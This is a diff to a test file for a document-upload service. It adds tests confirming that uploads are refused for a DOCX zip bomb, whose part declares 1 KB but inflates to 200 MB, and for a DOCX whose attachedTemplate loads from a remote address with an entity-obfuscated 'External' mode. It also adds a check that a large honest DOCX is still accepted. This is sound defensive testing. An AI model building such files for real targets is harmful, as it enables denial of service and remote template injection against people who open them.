@@ -4,6 +4,8 @@
  * and say clearly why. Each test makes its own tenant and resident (beforeEach), so no test depends on
  * what another stored or changed, and none cleans up after itself.
  */
+import { once } from 'node:events';
+import { crc32, createDeflateRaw } from 'node:zlib';
 import { beforeEach, describe, expect, it } from 'vitest';
 import { testApp } from '../test/support.js';
 import { type FilePart, type Resident, TYPE_MESSAGE, uploadHarness } from '../test/uploads.js';
@@ -11,8 +13,10 @@ import { createRequestAt } from './document-fixtures.js';
 import { templateDocumentId } from './document-ids.js';
 import {
   concat,
+  DOCX_CONTENT_TYPES,
   MIME,
   sampleDocx,
+  sampleDocxOf,
   sampleJpeg,
   sampleOle2,
   samplePdf,
@@ -21,6 +25,8 @@ import {
   samplePng,
   sampleXlsx,
   sampleZip,
+  zipOf,
+  zipPart,
 } from './sample-files.js';
 
 const { app, db } = await testApp();
@@ -245,7 +251,61 @@ const pdfWithLink = (action: string) =>
     '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>',
     `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A ${action} >>`,
   ]);
-describe('issue 25: PDFs whose active content the check of issue 18 let through', () => {
+const DOCUMENT_XML = (body: string) =>
+  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>${body}</w:body></w:document>`;
+const RELATIONSHIPS = (items: string) =>
+  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items}</Relationships>`;
+const RELATIONSHIP_TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+
+/** Raw deflate of `size` zero bytes, made a megabyte at a time so the test never holds them all. */
+async function deflatedZeros(size: number): Promise<Uint8Array> {
+  const deflate = createDeflateRaw({ level: 9 });
+  const chunks: Buffer[] = [];
+  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
+  const ended = once(deflate, 'end');
+  const megabyte = Buffer.alloc(1024 * 1024);
+  for (let written = 0; written < size; written += megabyte.length) {
+    if (!deflate.write(megabyte)) await once(deflate, 'drain');
+  }
+  deflate.end();
+  await ended;
+  return new Uint8Array(Buffer.concat(chunks));
+}
+
+/** A few MB of Word text that compresses like prose, not like one repeated sentence. */
+function honestText(bytes: number): string {
+  const words = [
+    'parkeervergunning',
+    'bewoner',
+    'kenteken',
+    'gemeente',
+    'Amsterdam',
+    'straat',
+    'huurcontract',
+    'datum',
+  ];
+  const more = ['de', 'het', 'een', 'voor', 'van', 'met', 'op', 'en', 'is', 'aan', 'bij', 'naar', 'wordt', 'onze'];
+  let seed = 25;
+  const next = () => {
+    seed = (seed * 1103515245 + 12345) % 2 ** 31;
+    return seed;
+  };
+  const paragraphs: string[] = [];
+  let length = 0;
+  while (length < bytes) {
+    const sentence: string[] = [];
+    for (let i = 0; i < 12; i++) {
+      const list = next() % 3 === 0 ? words : more;
+      sentence.push(`${list[next() % list.length]}${next() % 7 === 0 ? ` ${next() % 10000}` : ''}`);
+    }
+    const paragraph = `<w:p><w:r><w:t xml:space="preserve">${sentence.join(' ')}.</w:t></w:r></w:p>`;
+    paragraphs.push(paragraph);
+    length += paragraph.length;
+  }
+  return paragraphs.join('');
+}
+
+describe('issue 25: PDFs and Word files whose active content the check of issue 18 let through', () => {
   let who: Resident;
   beforeEach(async () => {
     who = await resident({ MAX_UPLOAD_MB: '1' });
@@ -335,6 +395,46 @@ describe('issue 25: PDFs whose active content the check of issue 18 let through'
       /SubmitForm/,
     );
   });
+
+  it('D1. a DOCX whose part declares 1 KB but inflates to 200 MB (a zip bomb whose directory lies)', async () => {
+    const bomb = zipOf([
+      zipPart('[Content_Types].xml', DOCX_CONTENT_TYPES, true),
+      zipPart('word/document.xml', DOCUMENT_XML('<w:p/>'), true),
+      {
+        name: 'word/media/image1.png',
+        method: 8,
+        stored: await deflatedZeros(200 * 1024 * 1024),
+        size: 1024,
+        crc: crc32(new Uint8Array(1024)),
+      },
+    ]);
+    expect(bomb.length).toBeLessThan(300 * 1024);
+    await expectRefused(
+      await upload(who, { filename: 'huur.docx', type: MIME.docx, data: bomb }),
+      who,
+      'UPLOAD_FILE_EXPANDS',
+      'This Word document unpacks to more than 50 MB or consists of more than 1000 parts. Nothing has been saved. Save it as a PDF and upload that file.',
+    );
+    expect(await refusalDetail()).toMatch(/image1\.png unpacks to more than the 1024 bytes it declares/);
+  });
+
+  it('D2. a DOCX that loads its template from a web address when Word opens it (remote attachedTemplate)', async () => {
+    const docx = sampleDocxOf({
+      'word/document.xml': DOCUMENT_XML('<w:p><w:r><w:t>Huurcontract</w:t></w:r></w:p>'),
+      'word/settings.xml':
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
+      'word/_rels/settings.xml.rels': RELATIONSHIPS(
+        `<Relationship Id="rId1" Type="${RELATIONSHIP_TYPE}/attachedTemplate" Target="http://198.51.100.7/sjabloon.dotm" TargetMode="&#x45;xternal"/>`,
+      ),
+    });
+    await expectRefused(
+      await upload(who, { filename: 'huur.docx', type: MIME.docx, data: docx }),
+      who,
+      'UPLOAD_FILE_ACTIVE_CONTENT',
+      ACTIVE_MESSAGE,
+    );
+    expect(await refusalDetail()).toMatch(/attachedTemplate to http:\/\/198\.51\.100\.7\/sjabloon\.dotm/);
+  });
 });
 
 describe('issue 25: the benign twins are still accepted', () => {
@@ -368,6 +468,24 @@ describe('issue 25: the benign twins are still accepted', () => {
       }),
       who,
     );
+  });
+
+  it('a large honest DOCX (5 MB of text, about 0.5 MB compressed, all of it inflated to check) with an ordinary hyperlink to a web page', async () => {
+    const who = await resident({ MAX_UPLOAD_MB: '1' });
+    const docx = sampleDocxOf({
+      'word/document.xml': DOCUMENT_XML(
+        `<w:p><w:hyperlink r:id="rId1"><w:r><w:t>amsterdam.nl</w:t></w:r></w:hyperlink></w:p>${honestText(5 * 1024 * 1024)}`,
+      ),
+      'word/_rels/document.xml.rels': RELATIONSHIPS(
+        `<Relationship Id="rId1" Type="${RELATIONSHIP_TYPE}/hyperlink" Target="https://www.amsterdam.nl/parkeren" TargetMode="External"/>`,
+      ),
+    });
+    expect(docx.length).toBeGreaterThan(400 * 1024);
+    const row = await expectStored(
+      await upload(who, { filename: 'huurcontract.docx', type: MIME.docx, data: docx }),
+      who,
+    );
+    expect(row.content_type).toBe(MIME.docx);
   });
 });
 
